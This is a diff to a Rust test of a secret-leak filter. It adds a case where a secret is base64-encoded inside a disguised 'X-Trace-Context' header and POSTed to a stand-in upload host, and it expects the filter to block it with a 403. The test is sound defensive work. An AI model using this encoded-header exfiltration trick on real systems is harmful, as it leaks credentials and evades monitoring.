@@ -237,6 +237,22 @@ async fn a_key_or_a_placeholder_hidden_in_a_view_is_caught() {
                 "{what} in {form}"
             );
         }
+        // A custom header, base64-encoded (no key name beside it to hint at it).
+        let header = format!(
+            "X-Trace-Context: {}",
+            STANDARD.encode(format!("trace=1;data={secret};end"))
+        );
+        let in_header = s.post("https://other.test/upload", &[&header], b"x").await;
+        assert_eq!(
+            in_header.status, 403,
+            "{what} in a header: {}",
+            in_header.body
+        );
+        assert_eq!(
+            blocked(&in_header).as_deref(),
+            Some(expected),
+            "{what} in a header"
+        );
         // The query string, percent-encoded.
         let percent: String = secret.bytes().map(|b| format!("%{b:02X}")).collect();
         let query = s
